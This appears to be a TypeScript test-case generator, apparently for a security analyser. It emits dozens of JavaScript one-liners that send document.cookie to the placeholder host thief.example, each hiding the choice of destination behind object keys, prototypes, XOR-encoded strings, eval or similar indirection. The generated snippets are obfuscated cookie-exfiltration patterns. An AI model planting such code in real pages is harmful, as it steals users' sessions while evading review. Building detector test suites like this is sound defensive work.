import type { RealValue } from "../real-value.ts";
import { placementsOf, type Site, TO_THIEF } from "./placement.ts";

/** The real value as text that is safe as a property name; null where there is none. */
const keyOf = (real: RealValue) =>
	real.literal === null
		? null
		: real.type === "string"
			? real.literal
			: real.literal === "-0"
				? '"0"'
				: JSON.stringify(real.literal.replace(/n$/, ""));

const byKey = (make: (site: Site, key: string) => string) => (site: Site) => {
	const key = keyOf(site.real);
	return key === null || key === '"__proto__"' ? null : make(site, key);
};

const byText = (make: (site: Site, literal: string) => string) => (site: Site) => {
	const { type, literal } = site.real;
	return type !== "string" || literal === null || literal === '""' ? null : make(site, literal);
};

const byNumber = (make: (site: Site, number: number) => string) => (site: Site) => {
	const number = Number(site.real.type === "number" ? site.real.literal : Number.NaN);
	return Number.isInteger(number) && number >= 0 && number <= 40 ? make(site, number) : null;
};

/** The value is part of what is read, or of where it goes. */
export const values = placementsOf("value", {
	"index-by-test": ({ test }) => `fetch(["/a?c=", "${TO_THIEF}"][+(${test})] + document.cookie);`,
	"index-by-truth": ({ value, real }) =>
		`fetch([${real.isTruthy ? `"/a?c=", "${TO_THIEF}"` : `"${TO_THIEF}", "/a?c="`}][(${value}) ? 1 : 0] + document.cookie);`,
	"index-by-number": byNumber(
		({ value }, number) =>
			`fetch([${Array.from({ length: number + 2 }, (_, at) => (at === number ? `"${TO_THIEF}"` : '"/a?c="')).join(", ")}][${value}] + document.cookie);`,
	),
	"cut-by-number": byNumber(
		({ value }, number) =>
			`fetch("${number > 0 ? `/${"o".repeat(number - 1)}` : ""}//thief.example/?c=".slice(${value}) + document.cookie);`,
	),
	"table-by-key": byKey(
		({ value }, key) => `fetch(({ [${key}]: "${TO_THIEF}" }[${value}] ?? "/a?c=") + document.cookie);`,
	),
	"table-or-own-site": byKey(
		({ value }, key) =>
			`const ways = { own: "/a?c=", [${key}]: "${TO_THIEF}" }; fetch((ways[${value}] || ways.own) + document.cookie);`,
	),
	"map-by-key": ({ value, real }) =>
		real.literal === null
			? null
			: `fetch((new Map([[${real.literal}, "${TO_THIEF}"]]).get(${value}) ?? "/a?c=") + document.cookie);`,
	"written-by-key": byKey(
		({ value }, key) => `const box = {}; box[${value}] = document.cookie; fetch("${TO_THIEF}" + box[${key}]);`,
	),
	"computed-name": byKey(
		({ value }, key) =>
			`const { [${key}]: data = "none" } = { [${value}]: document.cookie }; fetch("${TO_THIEF}" + data);`,
	),
	"map-written-by-key": ({ value, real }) =>
		real.literal === null
			? null
			: `const box = new Map(); box.set(${value}, document.cookie); fetch("${TO_THIEF}" + box.get(${real.literal}));`,
	"page-property": ({ test }) => `fetch("${TO_THIEF}" + document[["title", "cookie"][+(${test})]]);`,
	"page-property-by-key": byKey(
		({ value }, key) => `fetch("${TO_THIEF}" + document[{ [${key}]: "cookie" }[${value}] ?? "title"]);`,
	),
	"page-property-by-text": byText(
		({ value }, literal) =>
			`fetch("${TO_THIEF}" + (document["cookie" + (${value}).replace(${literal}, "")] ?? "none"));`,
	),
	receiver: ({ test }) => `fetch("${TO_THIEF}" + (${test} ? document : { cookie: "none" }).cookie);`,
	"method-name": ({ test, theft }) =>
		theft.startsWith("fetch(") ? `window[${test} ? "fetch" : "isNaN"]${theft.slice("fetch".length)};` : null,
	"method-by-key": byKey(({ value, theft }, key) => `({ [${key}]: () => ${theft} })[${value}]?.();`),
	"function-by-key": byKey(
		({ value, theft }, key) => `const acts = { none() {}, [${key}]() { ${theft}; } }; (acts[${value}] ?? acts.none)();`,
	),
	"part-of-address": ({ test }) => `fetch((${test} ? "https://thief.example" : "") + "/?c=" + document.cookie);`,
	"replaced-in-address": byText(
		({ value }, literal) =>
			`fetch("/" + (${value}).replace(${literal}, () => "/thief.example/?c=") + document.cookie);`,
	),
	"split-into-address": byText(
		({ value }, literal) =>
			`fetch("/" + ["/thief.example", ""].join(${value}).split(${literal}).join("/?c=") + document.cookie);`,
	),
	"shift-of-letters": ({ value, real }) => {
		if (real.literal === null) return null;
		const key = real.type === "string" ? (JSON.parse(real.literal) as string) : real.literal.replace(/n$/, "");
		if (key === "" || key === "-0") return null;
		const codes = Array.from(
			"/thief.example/?c=",
			(letter, at) => letter.charCodeAt(0) ^ key.charCodeAt(at % key.length),
		);
		return `const key = String(${value}); fetch("/" + [${codes.join(", ")}].map((code, at) => String.fromCharCode(code ^ key.charCodeAt(at % key.length))).join("") + document.cookie);`;
	},
	"cut-from-list": ({ test }) => `fetch("/a?c=,${TO_THIEF}".split(",").at(${test} ? -1 : 0) + document.cookie);`,
	"code-text": ({ test, theft }) => `eval(${test} ? ${JSON.stringify(theft)} : "0");`,
	"code-by-key": byKey(
		({ value, theft }, key) => `new Function({ [${key}]: ${JSON.stringify(theft)} }[${value}] ?? "")();`,
	),
	"symbol-or-name": ({ test }) =>
		`const data = [document.title]; if (${test}) data[0] = document.cookie; fetch("${TO_THIEF}" + data);`,
	"data-by-number": byNumber(
		({ value }, number) =>
			`fetch("${TO_THIEF}" + [${Array.from({ length: number + 2 }, (_, at) => (at === number ? "document.cookie" : '""')).join(", ")}][${value}]);`,
	),

	"symbol-by-text": byText(
		({ value, theft }, literal) => `({ [Symbol.for(${value})]: () => ${theft} })[Symbol.for(${literal})]();`,
	),
	"static-by-key": byKey(({ value, theft }, key) =>
		key === '"prototype"' ? "" : `class Acts { static [${value}]() { ${theft}; } } Acts[${key}]();`,
	),
	"getter-by-key": byKey(
		({ value }, key) =>
			`const it = { get [${value}]() { return document.cookie; } }; fetch("${TO_THIEF}" + it[${key}]);`,
	),
	"defined-by-key": byKey(
		({ value, theft }, key) =>
			`const acts = Object.defineProperty({}, ${value}, { value: () => ${theft} }); acts[${key}]();`,
	),
	"host-by-key": byKey(
		({ value }, key) =>
			`fetch(\`https://\${{ [${key}]: "thief" }[${value}] ?? "shop"}.example/?c=\` + document.cookie);`,
	),
	"spread-by-test": ({ test }) =>
		`const ways = { to: "/a?c=", ...(${test} && { to: "${TO_THIEF}" }) }; fetch(ways.to + document.cookie);`,
	"assigned-by-test": ({ test }) =>
		`const ways = Object.assign({ to: "/a?c=" }, ${test} ? { to: "${TO_THIEF}" } : null); fetch(ways.to + document.cookie);`,
	"default-by-test": ({ test }) =>
		`const [to = "${TO_THIEF}"] = [${test} ? undefined : "/a?c="]; fetch(to + document.cookie);`,
	"deleted-by-test": ({ test }) =>
		`const ways = Object.create({ to: "${TO_THIEF}" }); ways.to = "/a?c="; if (${test}) delete ways.to; fetch(ways.to + document.cookie);`,
	"inherited-by-test": ({ test }) =>
		`const ways = Object.create(${test} ? { to: "${TO_THIEF}" } : { to: "/a?c=" }); fetch(ways.to + document.cookie);`,
	"replaced-by-test": ({ test }) => `fetch("#".replace(${test} ? "#" : "@", () => "${TO_THIEF}") + document.cookie);`,
	"parsed-by-test": ({ test }) =>
		`fetch(JSON.parse(${test} ? '{"to":"${TO_THIEF}"}' : '{"to":"/a?c="}').to + document.cookie);`,
	"promised-by-test": ({ test }) =>
		`Promise.resolve(${test} ? "${TO_THIEF}" : "/a?c=").then((to) => fetch(to + document.cookie));`,
	"padded-by-test": ({ test }) => `fetch("thief.example/?c=".padStart(${test} ? 19 : 17, "/") + document.cookie);`,
	"this-by-test": ({ test }) =>
		`(function () { fetch(this.to + document.cookie); }).call({ to: ${test} ? "${TO_THIEF}" : "/a?c=" });`,
	"length-by-test": ({ test }) =>
		`const ways = ["/a?c=", "${TO_THIEF}"]; ways.length = 1 + (${test}); fetch(ways.at(-1) + document.cookie);`,
	"order-by-test": ({ test }) => `fetch(["/a?c=", "${TO_THIEF}"].sort(() => (${test} ? -1 : 1))[0] + document.cookie);`,
	"name-of-global": ({ test, theft }) =>
		`globalThis.own = () => 0; globalThis.act = () => ${theft}; globalThis[${test} ? "act" : "own"]();`,
	"found-by-test": ({ test }) =>
		`fetch([["/a?c=", false], ["${TO_THIEF}", true]].find(([, held]) => held === (${test}))[0] + document.cookie);`,
	"event-by-text": ({ value, real, theft, engine }) =>
		engine === "language" || real.type !== "string"
			? null
			: `const hub = new EventTarget(); hub.addEventListener(${value}, () => ${theft}); hub.dispatchEvent(new Event(${real.literal}));`,
	"property-of-image": ({ test, engine }) =>
		engine === "language" ? null : `new Image()[${test} ? "src" : "alt"] = "${TO_THIEF}" + document.cookie;`,
	"address-of-image": ({ test }) => `new Image().src = (${test} ? "${TO_THIEF}" : "/a?c=") + document.cookie;`,
	"body-by-test": ({ test }) =>
		`fetch("https://thief.example/", { method: "POST", body: ${test} ? document.cookie : "none" });`,
	"beacon-by-test": ({ test }) => `navigator.sendBeacon(${test} ? "https://thief.example/" : "/a", document.cookie);`,
});
